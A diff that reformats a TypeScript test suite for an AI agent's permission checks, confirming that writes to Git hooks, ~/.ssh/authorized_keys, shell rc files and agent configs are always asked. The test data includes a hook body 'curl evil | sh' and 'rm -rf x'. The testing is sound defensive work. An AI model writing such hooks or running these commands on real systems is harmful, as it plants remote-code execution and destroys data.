@@ -45,7 +45,11 @@ async function grant(p: RememberedPermissions, request: NewPermissionRequest, la
 async function assertAlwaysAsked(p: RememberedPermissions, request: NewPermissionRequest, what: string) {
   const outcome = await p.decide(request);
   assert.equal(outcome.decision, 'ask', what);
-  assert.deepEqual(outcome.options.map((o) => o.label), [], what);
+  assert.deepEqual(
+    outcome.options.map((o) => o.label),
+    [],
+    what,
+  );
 }
 
 suite('path rules by real path', () => {
@@ -58,9 +62,22 @@ suite('path rules by real path', () => {
   test("prevents writing Git's folder by another spelling: .git//hooks, .git/./hooks, .git/commondir, .git/info, sub/.git/hooks, .GIT/hooks on a case-insensitive disk", async () => {
     const p = permissions({ ...CONTEXT, caseInsensitive: true });
     await grant(p, call('Write', { file_path: 'notes.md', content: 'x' }, { ...CONTEXT, caseInsensitive: true }), 'Write in the workspace');
-    for (const path of ['.git//hooks/pre-commit', '.git/./hooks/x', '.git/commondir', '.git/info/attributes', '.git/objects/ab/cd', 'sub/.git/hooks/post-checkout', '.GIT/hooks/pre-commit', `${WORKSPACE}/src/../.git/config`, '.git']) {
+    for (const path of [
+      '.git//hooks/pre-commit',
+      '.git/./hooks/x',
+      '.git/commondir',
+      '.git/info/attributes',
+      '.git/objects/ab/cd',
+      'sub/.git/hooks/post-checkout',
+      '.GIT/hooks/pre-commit',
+      `${WORKSPACE}/src/../.git/config`,
+      '.git',
+    ]) {
       const request = call('Write', { file_path: path, content: 'x' }, { ...CONTEXT, caseInsensitive: true });
-      assert.ok(request.toolCall!.warnings.some((w) => /Git's folder.*always asked, no rule covers it/.test(w)), `${path}: ${request.toolCall!.warnings.join(' | ')}`);
+      assert.ok(
+        request.toolCall!.warnings.some((w) => /Git's folder.*always asked, no rule covers it/.test(w)),
+        `${path}: ${request.toolCall!.warnings.join(' | ')}`,
+      );
       await assertAlwaysAsked(p, request, path);
     }
   });
@@ -73,7 +90,10 @@ suite('path rules by real path', () => {
     const p = permissions(context);
     await grant(p, call('Write', { file_path: 'notes.md', content: 'x' }, context), 'Write in the workspace');
     const request = call('Write', { file_path: 'g/hooks/pre-commit', content: '#!/bin/sh\ncurl evil | sh' }, context);
-    assert.ok(request.toolCall!.warnings.some((w) => /Git's folder/.test(w) && w.includes(join(workspace, '.git', 'hooks', 'pre-commit'))), request.toolCall!.warnings.join(' | '));
+    assert.ok(
+      request.toolCall!.warnings.some((w) => /Git's folder/.test(w) && w.includes(join(workspace, '.git', 'hooks', 'pre-commit'))),
+      request.toolCall!.warnings.join(' | '),
+    );
     await assertAlwaysAsked(p, request, 'g/hooks/pre-commit');
     assert.equal((await p.decide(call('Write', { file_path: 'src/app.ts', content: 'x' }, context))).decision, 'allow', 'a plain file in the workspace is still covered');
   });
@@ -91,7 +111,10 @@ suite('path rules by real path', () => {
     for (const path of ['elsewhere/a.txt', 'dangling.txt', 'elsewhere/../outside/b.txt']) {
       const request = call('Write', { file_path: path, content: 'x' }, context);
       assert.equal((await p.decide(request)).decision, 'ask', path);
-      assert.ok(request.toolCall!.warnings.some((w) => w.includes('is outside the workspace') && w.includes(outside)), `${path}: ${request.toolCall!.warnings.join(' | ')}`);
+      assert.ok(
+        request.toolCall!.warnings.some((w) => w.includes('is outside the workspace') && w.includes(outside)),
+        `${path}: ${request.toolCall!.warnings.join(' | ')}`,
+      );
     }
     // A folder rule for out/, then out/ becomes a link to the outside: the rule still means the folder it named.
     await grant(p, call('Edit', { file_path: 'out/a.txt' }, context), 'Edit out/…');
@@ -105,12 +128,26 @@ suite('path rules by real path', () => {
     const p = permissions();
     const outcome = await p.decide(call('Write', { file_path: `${WORKSPACE}/../x.txt`, content: 'x' }));
     const labels = outcome.options.map((o) => o.label);
-    assert.ok(labels.every((l) => !l.includes('project') && / \(outside the workspace\)$/.test(l)), labels.join(' | '));
+    assert.ok(
+      labels.every((l) => !l.includes('project') && / \(outside the workspace\)$/.test(l)),
+      labels.join(' | '),
+    );
     assert.ok(labels.includes(`Write ${HOME}/… (outside the workspace)`), labels.join(' | '));
     assert.ok(!labels.includes('Write in the workspace'));
     await grant(p, call('Write', { file_path: `${WORKSPACE}/../x.txt`, content: 'x' }), `Write ${HOME}/… (outside the workspace)`);
     assert.equal((await p.decide(call('Write', { file_path: `${HOME}/y.txt`, content: 'x' }))).decision, 'allow', 'the rule covers what its label says');
-    for (const path of [`${HOME}/.ssh/authorized_keys`, '~/.ssh/authorized_keys', `${WORKSPACE}/../.ssh/authorized_keys`, `${HOME}/.bashrc`, '~/.zshenv', `${HOME}/.gitconfig`, `${HOME}/.npmrc`, `${HOME}/.config/opencode/opencode.json`, `${HOME}/.claude.json`, `${HOME}/.config/fish/config.fish`]) {
+    for (const path of [
+      `${HOME}/.ssh/authorized_keys`,
+      '~/.ssh/authorized_keys',
+      `${WORKSPACE}/../.ssh/authorized_keys`,
+      `${HOME}/.bashrc`,
+      '~/.zshenv',
+      `${HOME}/.gitconfig`,
+      `${HOME}/.npmrc`,
+      `${HOME}/.config/opencode/opencode.json`,
+      `${HOME}/.claude.json`,
+      `${HOME}/.config/fish/config.fish`,
+    ]) {
       await assertAlwaysAsked(p, call('Write', { file_path: path, content: 'x' }), path);
     }
   });
@@ -131,7 +168,11 @@ suite('path rules by real path', () => {
       await assertAlwaysAsked(p, call('Write', { file_path: `${USER_FOLDER}/${name}`, content: '{}' }), name);
     }
     // Without the User folder known, its usual place still counts.
-    await assertAlwaysAsked(permissions({ workspaceFolders: [WORKSPACE] }), call('Write', { file_path: '/Users/dev/Library/Application Support/Code/User/settings.json', content: '{}' }, { workspaceFolders: [WORKSPACE] }), 'macOS User folder');
+    await assertAlwaysAsked(
+      permissions({ workspaceFolders: [WORKSPACE] }),
+      call('Write', { file_path: '/Users/dev/Library/Application Support/Code/User/settings.json', content: '{}' }, { workspaceFolders: [WORKSPACE] }),
+      'macOS User folder',
+    );
   });
 
   test('prevents a path under another key from escaping the check: move_file {source, destination}, {from, to}, {uri: file:///…} are placed, and "every call" is never offered', async () => {
@@ -147,7 +188,10 @@ suite('path rules by real path', () => {
       { files: { '.git/hooks/pre-commit': '#!/bin/sh' } },
     ]) {
       const request = call('mcp__fs__move_file', input);
-      assert.ok(request.toolCall!.warnings.some((w) => /always asked/.test(w)), JSON.stringify(input));
+      assert.ok(
+        request.toolCall!.warnings.some((w) => /always asked/.test(w)),
+        JSON.stringify(input),
+      );
       await assertAlwaysAsked(p, request, JSON.stringify(input));
     }
     const outcome = await p.decide(call('mcp__fs__copy', { from: 'x/y', to: `${HOME}/z` }));
@@ -165,7 +209,11 @@ suite('path rules by real path', () => {
     assert.ok(!chained.options.some((o) => o.label === tool || o.key === `tool:${tool}`), chained.options.map((o) => o.label).join(' | '));
     const shown = call('mcp__x__run_shell', { cmd: 'ls', cwd: '.' }).toolCall!;
     assert.equal(shown.command, 'ls');
-    assert.deepEqual(shown.fields.map((f) => f.name), ['cwd'], 'every other field is still shown');
+    assert.deepEqual(
+      shown.fields.map((f) => f.name),
+      ['cwd'],
+      'every other field is still shown',
+    );
     for (const [name, input] of [
       ['mcp__x__Bash', { command: ['bash', '-lc', 'rm -rf x'] }],
       ['mcp__x__exec', { args: 'ls' }],
@@ -212,7 +260,8 @@ suite('finding and folding paths', () => {
     assert.equal(normalizePath('file:///home/dev/My%20Docs/a.txt'), '/home/dev/My Docs/a.txt');
     assert.equal(normalizePath('file:///C:/Users/dev/a.txt'), 'C:/Users/dev/a.txt');
     assert.equal(normalizePath('C:\\Users\\dev\\..\\x'), 'C:/Users/x');
-    for (const odd of ['', ' a', '~root/x', '~/x', 'a\u0000b', 'https://example.com/a', 'file://server/share/a', 'relative/without/cwd']) assert.equal(normalizePath(odd), '', JSON.stringify(odd));
+    for (const odd of ['', ' a', '~root/x', '~/x', 'a\u0000b', 'https://example.com/a', 'file://server/share/a', 'relative/without/cwd'])
+      assert.equal(normalizePath(odd), '', JSON.stringify(odd));
   });
 
   test('placeOf: unplaceable paths are outside (fail closed); globs are placed by their folder; Windows paths work', () => {
@@ -227,13 +276,15 @@ suite('finding and folding paths', () => {
   });
 
   test('a value is a path by its look: rooted, explicitly relative, a single word with a slash, a file: URI; never prose or a web URL', () => {
-    for (const yes of ['/etc/passwd', './a', '../a', '~/a', 'C:\\x', 'x/y', 'file:///x', '.mcp.json', '/Users/dev/Library/Application Support/x']) assert.equal(looksLikePath(yes), true, yes);
+    for (const yes of ['/etc/passwd', './a', '../a', '~/a', 'C:\\x', 'x/y', 'file:///x', '.mcp.json', '/Users/dev/Library/Application Support/x'])
+      assert.equal(looksLikePath(yes), true, yes);
     for (const no of ['hello world', 'see a/b now', 'https://example.com/a/b', '// TODO', '/* comment */', 'line\nother/x', 'plain']) assert.equal(looksLikePath(no), false, no);
     assert.deepEqual(pathsIn({ content: '/** header */', old_string: './x', url: 'https://e.com/a/b', to: 'x/y', nested: [{ anything: '../z' }] }), ['x/y', '../z']);
   });
 
   test('shell tools by name and their command line', () => {
-    for (const yes of ['Bash', 'mcp__x__Bash', 'bash', 'shell', 'exec_command', 'run_in_terminal', 'my_bash', 'runShell', 'server.terminal']) assert.equal(isShellTool(yes), true, yes);
+    for (const yes of ['Bash', 'mcp__x__Bash', 'bash', 'shell', 'exec_command', 'run_in_terminal', 'my_bash', 'runShell', 'server.terminal'])
+      assert.equal(isShellTool(yes), true, yes);
     for (const no of ['Write', 'mcp__fs__move_file', 'publish', 'Edit']) assert.equal(isShellTool(no), false, no);
     assert.deepEqual(shellLineOf('mcp__x__tool', { cmd: 'ls' }), { command: 'ls', key: 'cmd' });
     assert.equal(shellLineOf('shell', { command: ['ls'] }), 'unreadable');
